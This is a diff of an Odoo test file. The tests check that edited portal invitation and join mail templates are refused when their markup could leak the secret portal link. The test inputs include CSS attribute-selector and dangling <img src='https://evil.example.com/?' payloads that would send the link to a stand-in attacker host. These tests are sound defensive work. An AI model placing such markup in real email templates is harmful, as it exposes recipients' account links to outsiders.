@@ -98,28 +98,48 @@ class TestEditedTemplates(PortalInvitationCommon, GuestOrderCommon):
                 self.assertEqual(found + query, rest)
                 self.assertRegex(path, r"^/my/guest-orders/link/[\w-]{60,}$")
 
-    @mute_logger("odoo.addons.sale_auto_portal_user.models.portal_mail_send")
+    def test_a_link_in_a_comment_counts_as_missing(self):
+        link = '<a t-att-href="object._get_portal_join_url()">x</a>'
+        template = self.env.ref(JOIN_TEMPLATE)
+        template.body_html = RAW % "<!--" + link + RAW % "-->"
+        self.guest_order()
+        [mail] = self.send_joins()
+        displayed = re.sub(r"<!--.*?-->", "", mail, flags=re.DOTALL)
+        [target] = self.targets_of(displayed)
+        self.assertRegex(target, r"^/my/guest-orders/link/[\w-]{60,}$")
+
+    def test_a_template_can_not_disclose_the_link_by_a_style_sheet(self):
+        style = "<style>a[href*='=a'] {background: url(https://evil.example.com/a)}</style>"
+        for markup, found in ((style, "[href*='=a']"), (RAW % "<link rel='stylesheet' href='/x'/>", "<link")):
+            self.assert_refused(markup, "", f"could disclose the link: {found}")
+
     def test_a_template_can_not_make_a_link_a_part_of_an_image(self):
-        editor = new_test_user(
-            self.env, login="editor", groups="sales_team.group_sale_manager,mail.group_mail_template_editor"
-        )
         image = RAW % "<img src='https://evil.example.com/?"
-        end = RAW % "'/>"
+        for end in (RAW % "'/>", ""):
+            self.assert_refused(image, end, "not closed properly")
+
+    @mute_logger("odoo.addons.sale_auto_portal_user.models.portal_mail_send")
+    def assert_refused(self, before, after, reason):
+        """Check that no mail is sent if its template has some code before or around a link, and that staff are told."""
+        editor = new_test_user(
+            self.env,
+            login=f"editor{self.env['res.users'].search_count([])}",
+            groups="sales_team.group_sale_manager,mail.group_mail_template_editor",
+        )
         for name, url in ((TEMPLATE, "_get_portal_invitation_url"), (JOIN_TEMPLATE, "_get_portal_join_url")):
-            link = f'<a t-att-href="object.{url}()">x</a>'
-            for markup in (image + link + end, image):
-                template = self.env.ref(name)
-                body = template.body_html
-                template.with_user(editor).body_html = markup + str(body)
-                order, invitation = self.invite(email="otto@example.com")
-                join = self.joins_of(self.guest_order())
-                mails = list(self.send().values()) if name == TEMPLATE else self.send_joins()
-                template.body_html = body
-                record = invitation if name == TEMPLATE else join
-                with self.subTest(template=name, markup=markup):
-                    self.assertFalse(mails)
-                    self.assertEqual(record.state, "failed")
-                    self.assertIn("not closed properly", record.failure_reason)
-                    self.assertIn("not closed properly", self.notes_of(record.order_id)[0])
-                (join + self.joins_of(order)).unlink()
-                invitation.user_id.unlink()
+            template = self.env.ref(name)
+            body = template.body_html
+            link = f'<a t-att-href="object.{url}()">x</a>' if after else ""
+            template.with_user(editor).body_html = before + link + after + str(body)
+            order, invitation = self.invite(email="otto@example.com")
+            join = self.joins_of(self.guest_order())
+            mails = list(self.send().values()) if name == TEMPLATE else self.send_joins()
+            template.body_html = body
+            record = invitation if name == TEMPLATE else join
+            with self.subTest(template=name, before=before, after=after):
+                self.assertFalse(mails)
+                self.assertEqual(record.state, "failed")
+                self.assertIn(reason, record.failure_reason)
+                self.assertIn(reason, self.notes_of(record.order_id)[0])
+            (join + self.joins_of(order)).unlink()
+            invitation.user_id.unlink()
